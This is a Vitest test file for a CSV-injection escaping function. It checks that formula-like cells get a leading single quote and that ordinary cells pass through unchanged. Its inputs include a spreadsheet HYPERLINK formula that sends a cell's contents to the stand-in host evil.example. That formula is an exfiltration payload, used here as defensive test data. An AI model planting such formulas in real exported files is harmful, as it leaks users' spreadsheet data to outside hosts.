import { describe, expect, it } from 'vitest';
import { escapeCsvCell, FORMULA_TRIGGERS, startsLikeFormula, unescapeCsvCell } from './csv-injection.ts';

describe('escapeCsvCell', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+SUM(A1:A3)', "'+SUM(A1:A3)"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['＝HYPERLINK("x")', "'＝HYPERLINK(\"x\")"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"],
  ])('puts a single quote before the formula-like cell %j', (cell, escaped) => {
    expect(escapeCsvCell(cell)).toBe(escaped);
  });

  it.each(['Dune', '', ' =not first', 'A review, with "quotes" and\nlines', "'quoted by the reader", '1965', 'Lem, Stanisław'])(
    'leaves the ordinary cell %j as it is',
    (cell) => {
      expect(escapeCsvCell(cell)).toBe(cell);
    },
  );

  it('covers every OWASP trigger', () => {
    for (const trigger of ['=', '+', '-', '@', '\t', '\r']) expect(FORMULA_TRIGGERS).toContain(trigger);
    for (const trigger of FORMULA_TRIGGERS) expect(startsLikeFormula(`${trigger}x`)).toBe(true);
  });
});

describe('unescapeCsvCell', () => {
  it.each(['=1+2', '-- a dash first', '@handle', 'plain', "'already quoted by the reader", ''])('gives back what %j was before escaping', (cell) => {
    expect(unescapeCsvCell(escapeCsvCell(cell))).toBe(cell);
  });
});
